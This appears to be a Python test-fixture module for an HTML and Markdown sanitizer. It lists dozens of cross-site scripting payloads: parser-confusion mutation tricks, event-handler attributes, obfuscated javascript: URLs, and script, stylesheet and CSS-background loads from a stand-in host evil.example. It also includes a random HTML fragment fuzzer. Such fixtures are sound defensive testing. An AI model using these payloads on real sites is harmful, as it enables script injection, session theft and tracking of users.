"""What strangers write: HTML that parsers read differently, and attributes that run something. Each calls `window.ran` where it succeeds."""

from __future__ import annotations

import random

RUN = "window.ran=1"
MARKDOWN = (
    f'Hello\n{{: onmouseover="{RUN}" }}',
    f'## Heading {{: onmouseenter="{RUN}" }}',
    f'![x](x.png){{: onerror="{RUN}" }}',
    f'[a](b){{: onclick="{RUN}" onpointerenter={RUN} }}',
    f'[a](b){{: href="javascript:{RUN}" }}',
    f"[a](javascript:{RUN}) <javascript:{RUN}> [b](JaVa&#x09;script:{RUN})",
    '| a |\n|---|\n| b {: style="position:fixed;inset:0;background:url(https://evil.example/p.gif)" } |',
    f'!!! note "t"\n    x\n    {{: onfocus="{RUN}" tabindex=0 autofocus }}',
    'Hello\n{: style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(https://evil.example/p.gif)" }',
    f'[^1]\n\n[^1]: note {{: onclick="{RUN}" }}\n',
)
HTML = (
    f'<!--><img src=x onerror="{RUN}">-->',
    f'<!---><img src=x onerror="{RUN}">-->',
    f'<!-- --!><img src=x onerror="{RUN}"> -->',
    f'<![CDATA[><img src=x onerror="{RUN}">]]>',
    f'<?x ><img src=x onerror="{RUN}"> ?>',
    f'<!x ><img src=x onerror="{RUN}"> >',
    f'</ x><img src=x onerror="{RUN}">',
    f'<div><noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript></div>',
    f"<script>{RUN}</script><script src=//evil.example/x.js></script>",
    f"<svg onload={RUN}><script>{RUN}</script><animate attributeName=href values=javascript:{RUN} /><a><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src=\"javascript:parent.{RUN}\"></iframe>",
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}"><base href=//evil.example/>',
    f"<details open ontoggle={RUN}>x</details><video src=x onerror={RUN}></video><audio src onerror={RUN}>",
    f"<form action=javascript:{RUN}><button autofocus onfocus={RUN}>x</button><input type=image src=x onerror={RUN}></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><link rel=stylesheet href=//evil.example/x.css>",
    f"<style>@import '//evil.example/x.css'; * {{ background: url(//evil.example/x) }}</style><template><img src=x onerror={RUN}></template>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea><title><a title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp><noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<a href='&#x6A;avascript&colon;{RUN}'>x</a><a href='java\tscript:{RUN}'>x</a><a href='\x01javascript:{RUN}'>x</a>",
    f"<table background=javascript:{RUN}><tr><td background=javascript:{RUN}><img src=javascript:{RUN} lowsrc=javascript:{RUN}></table>",
    f"<select><option><style></select><img src=x onerror={RUN}></style></select>",
    f'<p title="<table><img src=x onerror={RUN}>"></p><b title="<blockquote>&lt;p><img src=x onerror={RUN}>&lt;/p>">',
    f'<b title="“a">b”</b><sup id="fnref:1"><img src=x onerror={RUN}></sup>',
    f'<a title=" onmouseover={RUN} x" href="=">x</a>',
    "<div data-gw-searchbox data-finder=//evil.example/x.js data-bundles=//evil.example/ class='gw-search md-overlay'>x</div>",
    f"<p id=__config>{{}}</p><img name=body id=getElementById><x-y onclick={RUN}>y</x-y><p is=x contenteditable popover>",
    "<input name=password placeholder=Password><input type=password><label for=__search>x</label>",
    "<p style='background:u\\72l(//evil.example/x);behavior:url(x)'></p><p style='width:expression(1);color:red'></p>",
)
_TAGS = """a b p div span table tr td svg path math mi mtext mglyph malignmark annotation-xml style script noscript template title textarea select option form
    button input img i font h1 h6 nobr ul li dl dd ruby rt foreignObject desc iframe xmp plaintext object details summary pre caption col""".split()
_ATTRIBUTES = (
    "",
    ' title="</p><img src=x onerror=window.ran=1>"',
    ' title="--&gt;<img src=x onerror=window.ran=1>"',
    " onclick=window.ran=1",
    " href=javascript:window.ran=1",
    ' class="a gw-b"',
    " encoding=text/html",
    " id='`'",
    " type=checkbox",
    ' style="color:red;position:fixed"',
)
_BITS = (
    "<!--",
    "-->",
    "<!-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "<?x",
    ">",
    "<",
    "&lt;",
    "&amp;lt;",
    '"',
    "'",
    "text",
    "\n",
    "\0",
    "</",
    "&#0;",
    "<!doctype x>",
)


def fragment(chance: random.Random) -> str:
    """A piece of HTML in which anything may stand in anything."""
    parts = []
    for _ in range(chance.randint(1, 14)):
        kind = chance.random()
        if kind < 0.5:
            parts.append(f"<{chance.choice(_TAGS)}{chance.choice(_ATTRIBUTES)}{chance.choice(_ATTRIBUTES)}>")
        elif kind < 0.75:
            parts.append(f"</{chance.choice(_TAGS)}>")
        else:
            parts.append(chance.choice(_BITS))
    return "".join(parts)
